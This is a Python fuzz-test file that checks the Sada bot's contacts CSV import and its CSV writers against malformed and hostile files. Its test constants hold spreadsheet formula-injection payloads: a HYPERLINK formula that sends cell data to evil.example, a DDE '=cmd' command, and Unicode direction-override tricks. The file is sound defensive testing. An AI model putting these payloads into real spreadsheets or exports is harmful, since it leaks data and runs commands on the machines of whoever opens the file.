"""Fuzzed contacts CSVs through the import, on SQLite and PostgreSQL, and every CSV Sada
writes read back as a spreadsheet would.

A contacts file is refused whole (one line: ContactsFileError), or checked row by row (one
line per problem, and then the command imports nothing), or imported in one transaction.
Hypothesis writes files as CRMs and careless staff do (any encoding, BOM or none, `,` `;`
tab or `|`, quoted or not, NUL characters, huge cells, formula-like names, negative and
oversized ids, digits of any script) and plain random bytes. For each: no exception but
those one-line errors, a row with a problem never reaches the database, and an import that
fails leaves the database as it was (no partial import). The same files go through
`sada invite --contacts`' reader. Then every contact stored is written out by the two CSV
writers (`sada contacts list -f csv` and the invitation links file) and read back: no cell
may start like a formula unless it is a number. The figures are printed and asserted.
"""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlmodel import select
from typer.testing import CliRunner

from bot.cli import contacts as contacts_cli
from bot.flow.loader import load_flow_text
from bot.followups.contacts_csv import (
    ContactsFileError,
    column_aliases,
    id_columns,
)
from bot.followups.invite import Audience, contacts_from_file, invite_contacts
from bot.reports.tables import write_csv
from bot.settings import get_settings
from bot.staff_text import FORMULA_STARTS
from storage.db import Database
from storage.identities import identities_of
from storage.models import Contact, ContactIdentity

T = TypeVar("T")
NOW = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
CONTROL = set(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))

# --- files as CRMs, spreadsheets and careless staff write them ------------------------------

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
    "-1001234567890", "0", "-0", "99999999999999999999", str(2**70), "۱۲۳۴", "٤٥٦", "१२३",
    "²", "x\x00y", "\x00", "Sa\u202era", "ok\u2028Resolve: /resolve 1", "\x1b[31m", '"',
    '""', "a,b", "a;b", "a\nb", "tehran", "de", " ", "", "x" * 201, "ي" * 250,
]
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=12),
    st.text(st.sampled_from("0123456789۰۱۲۳٠١٢-+ =@\t\x00\u202e\u2028,;\"'\n"), max_size=12),
    st.integers(-(2**70), 2**70).map(str),
)
# What a CRM usually holds in each column, formula-like names included, so that a good
# share of files import and their hostile parts reach the database and the writers.
NAMES = ["Sara", "رضا کریمی", "سارا\u200f", '=HYPERLINK("http://evil.example/","x")',
         "-Ali", "@sara", "+98 912", "=1+1", "Nguyen, Minh", ""]
COLUMNS = column_aliases()  # a column per channel (telegram_id, bale_id …), then the rest
CHAT_ID = st.integers(1, 10**12).map(str) | st.integers(1, 10**6).map(
    lambda n: str(n).translate(str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")))
PLAIN: dict[str, st.SearchStrategy[str]] = {
    **{column: CHAT_ID for column in id_columns()[:-1]},
    "preferred_channel": st.sampled_from(["telegram", "bale", "", "Bale", "sms"]),
    "external_id": st.integers(1, 10**9).map(lambda n: f"CRM-{n}" if n % 50 else f"-{n}"),
    "name": st.sampled_from(NAMES), "first_name": st.sampled_from(NAMES),
    "language": st.sampled_from(["fa", "ar", "en", "", "Arabic", "FA"]),
    "timezone": st.sampled_from(["Asia/Tehran", "Asia/Riyadh", "", "europe/london"]),
    "account": st.sampled_from(["Acme", "=cmd|' /C calc'!A0", "+Acme", "@Globex", ""]),
    "role": st.sampled_from(["buyer", "-user", "decision_maker", ""]),
    "segment": st.sampled_from(["gold", "", "\tsilver"]),
}
# Ids no generated row uses: later examples must not rename these contacts.
GOOD_BUT_HOSTILE = (
    "telegram_id,external_id,name,account,role,segment\n"
    '۹۸۷۶۵۴۳۲۱,,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+Acme,-user,@gold\n'
    "987654322,,\u202eSara\u2028Resolve: /resolve 1,=cmd|' /C calc'!A0,\tbuyer,gold\n"
    ",CRM-x-987654,=1+1,@Globex,-buyer,gold\n").encode()
# UTF-8 mostly, as asked; the others must be refused in one line
ENCODINGS = ["utf-8"] * 12 + ["utf-8-sig", "utf-16", "utf-16-le", "cp1256", "latin-1"]


@st.composite
def contacts_file(draw: st.DrawFn) -> bytes:
    """A CSV as an export would be, with hostile cells here and there, or random bytes."""
    # Rare cases test a middle value: hypothesis draws 0 and the maximum often.
    if draw(st.integers(0, 9)) == 5:
        return draw(st.binary(max_size=200))
    columns = draw(st.lists(st.sampled_from(list(COLUMNS)), unique=True, min_size=1,
                            max_size=6))
    if not set(columns) & set(id_columns()) and draw(st.integers(0, 4)) != 2:
        columns.insert(0, draw(st.sampled_from(id_columns())))
    header = [draw(st.sampled_from(COLUMNS[c])) for c in columns]
    if draw(st.integers(0, 5)) == 3:  # a column nobody knows, or a second id
        where = draw(st.integers(0, len(header)))
        header.insert(where, draw(st.sampled_from(
            ["favourite_colour", "", "Telegram ID", "chat_id", " Company "])))
        columns.insert(where, "")

    def cell(column: str) -> str:
        if draw(st.integers(0, 7)) == 3:
            return draw(HOSTILE)
        return draw(PLAIN.get(column, st.just("")))

    rows = [[cell(c) for c in columns] for _ in range(draw(st.integers(1, 6)))]
    if draw(st.integers(0, 9)) == 3:
        rows = []  # a header alone
    if rows and draw(st.integers(0, 9)) == 3:  # a row with a value too many or too few
        rows[-1] = rows[-1][:-1] if draw(st.booleans()) else [*rows[-1], "extra"]
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    buffer = io.StringIO()
    if draw(st.integers(0, 3)):
        writer = csv.writer(buffer, delimiter=delimiter, lineterminator=draw(
            st.sampled_from(["\n", "\r\n"])), quoting=draw(st.sampled_from(
                [csv.QUOTE_MINIMAL, csv.QUOTE_ALL])))
        writer.writerow(header)
        writer.writerows(rows)
    else:  # joined by hand: quotes and separators inside cells break the columns
        buffer.write("\n".join(delimiter.join(row) for row in [header, *rows]))
    text = buffer.getvalue()
    if draw(st.integers(0, 19)) == 13:
        text += "\n" + "1," + "x" * 140_000  # a cell past the csv module's limit
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace")
    if encoding == "utf-8" and draw(st.booleans()):
        data = codecs.BOM_UTF8 + data
    return data


# --- the figures --------------------------------------------------------------------------


@dataclass
class Figures:
    tried: int = 0
    refused: int = 0  # the file as a whole: one line
    rejected: int = 0  # problems listed row by row: nothing imported
    imported: int = 0
    crashed: int = 0  # any other exception
    partial: int = 0  # a failed import that left something behind
    bad_messages: list[str] = field(default_factory=list)
    crashes: list[str] = field(default_factory=list)

    def line(self, name: str) -> str:
        return (f"{name}: tried {self.tried}, refused {self.refused}, rejected "
                f"{self.rejected}, imported {self.imported}, crashed {self.crashed}, "
                f"partially imported {self.partial}")


def one_line(message: str) -> bool:
    return bool(message.strip()) and "\n" not in message and "\r" not in message


async def snapshot(db: Database) -> list[tuple[Any, ...]]:
    async with db.session() as s, s.begin():
        contacts = (await s.exec(select(Contact).order_by(Contact.id))).all()  # type: ignore[arg-type]
        identities = (await s.exec(select(ContactIdentity).order_by(ContactIdentity.id))).all()  # type: ignore[arg-type]
        return [tuple(c.model_dump().values()) for c in [*contacts, *identities]]


def on_loop(loop: asyncio.AbstractEventLoop) -> Callable[[Awaitable[T]], T]:
    """Run a coroutine on the test's loop from hypothesis's thread, and wait for it."""
    def call(work: Awaitable[T]) -> T:
        return asyncio.run_coroutine_threadsafe(work, loop).result(timeout=120)  # type: ignore[arg-type]
    return call


runner = CliRunner()


def cli_import(path: Path) -> tuple[int, str, BaseException | None]:
    """`sada contacts import FILE`, as staff run it (exit code, output, exception)."""
    result = runner.invoke(contacts_cli.app, ["import", str(path)])
    return result.exit_code, result.output, result.exception


async def fuzz_import(db: Database, folder: Path, examples: int, name: str) -> Figures:
    figures = Figures()
    call = on_loop(asyncio.get_running_loop())
    path = folder / "contacts.csv"

    def attempt(data: bytes) -> None:
        figures.tried += 1
        path.write_bytes(data)
        before = call(snapshot(db))
        code, output, exception = cli_import(path)
        after = call(snapshot(db))
        lines = output.strip().splitlines()
        if exception is not None and not isinstance(exception, SystemExit):
            figures.crashed += 1
            figures.crashes.append(f"import: {exception!r}")
        elif code == 0:
            figures.imported += 1
            assert len(after) >= len(before)
        else:
            # refused whole (one line) or row by row (a line per problem, then the count)
            if lines and lines[-1].startswith("nothing imported:"):
                figures.rejected += 1
            else:
                figures.refused += 1
            figures.bad_messages += [line for line in lines
                                     if not line.startswith((str(path), "nothing imported"))]
            if after != before:
                figures.partial += 1
        # `sada invite --contacts FILE` reads the same files
        try:
            call(contacts_from_file(db, path))
        except ContactsFileError as exc:
            figures.bad_messages += [line for line in str(exc).splitlines()
                                     if not one_line(line)]
        except Exception as exc:  # every other exception is what we count
            figures.crashed += 1
            figures.crashes.append(f"invite --contacts: {exc!r}")

    @settings(max_examples=examples, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                     HealthCheck.large_base_example])
    @given(contacts_file())
    @example(GOOD_BUT_HOSTILE)  # always: an import whose names attack the spreadsheet
    @example("telegram_id,name\n1001,Sara\n".encode("utf-16"))  # refused whole
    @example(b"telegram_id,name\n1001,Sa\x00ra\n-100123,Team\n")  # rejected row by row
    def run(data: bytes) -> None:
        attempt(data)

    await asyncio.to_thread(run)
    print(figures.line(name))
    return figures


# --- CSVs Sada writes, read back ------------------------------------------------------------


def formula_cells(text: str) -> tuple[list[str], int]:
    """Cells a spreadsheet would run (starting like a formula, and not a plain number), and
    how many were neutralised (an apostrophe before such a start)."""
    found, neutralised = [], 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                if cell.startswith(FORMULA_STARTS):
                    found.append(cell)
                neutralised += cell[:1] == "'" and cell[1:].startswith(FORMULA_STARTS)
    return found, neutralised


LINK_FLOW = load_flow_text("""
id: fuzz-links
languages: [en]
default_language: en
title: {en: "Fuzz"}
intro: {en: "Hi"}
outro: {en: "Thanks"}
groups:
  - id: main
    title: {en: "Main"}
    questions:
      - {id: nps, type: nps, text: {en: "Recommend us?"}}
""").flow


async def written_csvs(db: Database, folder: Path) -> tuple[int, list[str], int]:
    """Every stored contact through the list writer and the invitation links file."""
    async with db.session() as s, s.begin():
        contacts = list((await s.exec(select(Contact))).all())
        identities = await identities_of(s, [c.id for c in contacts if c.id is not None])
    channels = contacts_cli._channels()
    written = write_csv(contacts_cli._contact_fields(channels),
                        [contacts_cli._contact_record(c, identities.get(c.id or 0, []), channels)
                         for c in contacts])
    links = folder / "links.csv"
    await invite_contacts(db, flow=LINK_FLOW, audience=Audience(
        contact_ids=tuple(c.id for c in contacts if c.id is not None)), at=NOW, context={},
        now=NOW, bot_username="fuzz_bot", links_out=links)
    texts = [written, links.read_text(encoding="utf-8-sig") if links.exists() else ""]
    cells = sum(len(row) for text in texts for row in csv.reader(io.StringIO(text)))
    checked = [formula_cells(text) for text in texts]
    return cells, [c for found, _ in checked for c in found], sum(n for _, n in checked)


@contextmanager
def cli_settings(database: Database, folder: Path) -> Iterator[None]:
    """`sada` commands on the test's database; no stray .env, SADA_* from the environment
    restored after."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SADA_DATABASE_URL", database.url)
        patch.setenv("SADA_DATA_DIR", str(folder / "data"))
        patch.chdir(folder)
        get_settings.cache_clear()
        try:
            yield
        finally:
            get_settings.cache_clear()


async def test_fuzzed_contacts_files_on_sqlite_and_postgres(database: Database,
                                                            tmp_path: Path) -> None:
    dialect = database.engine.dialect.name
    # PostgreSQL is the stricter (NUL, 32-bit ids, index row size) and the slower
    examples = 60 if dialect == "sqlite" else 30
    with cli_settings(database, tmp_path):
        figures = await fuzz_import(database, tmp_path, examples,
                                    f"fuzz contacts csv ({dialect})")
    assert figures.crashed == 0, figures.crashes[:5]
    assert figures.partial == 0
    assert not figures.bad_messages, figures.bad_messages[:5]
    assert figures.tried >= examples
    # each outcome was reached: the fuzz is not all refusals
    assert figures.refused and figures.rejected and figures.imported, figures.line(dialect)

    stored = await snapshot(database)
    assert stored, "nothing was imported to write out"
    assert not [row for row in stored for value in row
                if isinstance(value, str) and set(value) & CONTROL], "control characters stored"
    cells, formulas, neutralised = await written_csvs(database, tmp_path)
    print(f"written csv ({dialect}): {len(stored)} contacts, {cells} cells, {neutralised} "
          f"neutralised, {len(formulas)} starting like a formula")
    assert not formulas, formulas[:5]
    assert neutralised >= 11  # the example's formula-like cells: 8 listed, 3 in the links


# --- the command itself: one line per problem, nothing imported -------------------------------

HOSTILE_FILES = {
    "nul-row": b"telegram_id,name\n1001,Sara\n1002,Re\x00za\n",
    "group-chat": b"telegram_id,name\n1001,Sara\n-1001234567890,Team\n",
    "utf16-no-bom": "telegram_id,name\n1001,Sara\n".encode("utf-16-le"),
    "huge-cell": b"external_id,name\nC-1," + b"x" * 140_000 + b"\n",
    "long-id": b"external_id,name\n" + b"ab" * 1600 + b",x\n1001,y\n",
    "random-bytes": bytes(range(256)) * 3,
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
async def test_the_import_command_answers_hostile_files_in_lines_and_imports_nothing(
    database: Database, tmp_path: Path, name: str
) -> None:
    path = tmp_path / f"{name}.csv"
    path.write_bytes(HOSTILE_FILES[name])
    with cli_settings(database, tmp_path):
        code, output, exception = await asyncio.to_thread(cli_import, path)
    assert code == 1, output
    assert isinstance(exception, SystemExit)  # an exit, not a crash
    lines = output.strip().splitlines()
    assert lines and "Traceback" not in output
    assert all(line.startswith((str(path), "nothing imported")) for line in lines), lines
    assert await snapshot(database) == []
